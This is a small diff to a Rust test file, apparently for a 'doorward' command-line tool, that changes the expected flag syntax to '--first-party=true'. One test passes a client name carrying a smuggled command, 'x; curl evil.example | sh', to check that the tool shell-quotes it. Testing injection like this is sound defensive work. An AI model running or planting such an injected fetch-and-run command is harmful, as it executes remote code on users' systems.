@@ -48,7 +48,7 @@ fn commands_carry_real_names() {
         (
             "client-not-first-party",
             None,
-            &["if it is the operator's own: doorward client update app --first-party true"],
+            &["if it is the operator's own: doorward client update app --first-party=true"],
         ),
         (
             "email-not-verified",
@@ -72,7 +72,7 @@ fn chosen_names_are_quoted_for_shell() {
         commands(&one),
         [
             "if it is the operator's own: doorward client update 'x; curl evil.example | sh' \
-             --first-party true"
+             --first-party=true"
         ]
     );
     let roles = ["reader".to_owned()];
